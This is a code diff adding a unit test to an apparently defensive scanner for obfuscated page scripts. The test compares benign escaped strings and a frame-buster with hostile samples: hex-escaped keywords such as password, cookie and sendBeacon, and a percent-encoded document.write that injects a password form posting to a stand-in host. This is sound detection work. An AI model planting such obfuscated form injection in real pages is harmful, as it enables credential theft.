@@ -22,6 +22,23 @@ describe('malicious behaviour', () => {
     expect(scoreOf(check(script(`eval(atob("${local}"))`)), 'page_obfuscated_script')).toBeLessThan(70);
   });
 
+  it("tells an obfuscator's escaped words and written HTML from a server's safely escaped state and a frame-buster", () => {
+    const word = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
+    const escapedWords = `var _k = ['${word('document')}', '${word('location')}', '${word('password')}', '${word('telegram')}', '${word('sendBeacon')}', '${word('cookie')}', '${word('XMLHttpRequest')}', '${word('localStorage')}'];`;
+    expect(scoreOf(check(script(escapedWords)), 'page_obfuscated_script')).toBeGreaterThanOrEqual(30);
+    const state = `app.context = {"layout":"components\\x2Flogin\\x2Flayout.jsx","html":"${'\\x3Cdiv\\x20class\\x3D\\x22row\\x22\\x3E'.repeat(12)}"};`;
+    expect(scoreOf(check(script(state)), 'page_obfuscated_script')).toBe(0);
+    const written = encodeURIComponent('<form action="https://collect.example.net/p.php"><input type="password"></form>').replace(
+      /[a-z]/gi,
+      (c) => `%${c.charCodeAt(0).toString(16)}`,
+    );
+    expect(scoreOf(check(script(`document.write(unescape('${written}'));`)), 'page_obfuscated_script')).toBeGreaterThanOrEqual(50);
+    expect(scoreOf(check(script('document.write(atob(payload));')), 'page_obfuscated_script')).toBeGreaterThanOrEqual(50);
+    const frameBuster =
+      "if (top != self) { top.location.replace(self.location.href); } else { document.write(unescape('%3C%73') + 'tyle>body{display:block}</style>'); }";
+    expect(scoreOf(check(script(frameBuster)), 'page_obfuscated_script')).toBe(0);
+  });
+
   it('ignores code shown as text', () => {
     expect(scoreOf(check('<pre><code>eval(atob("d2luZG93"))</code></pre>'), 'page_obfuscated_script')).toBe(0);
   });
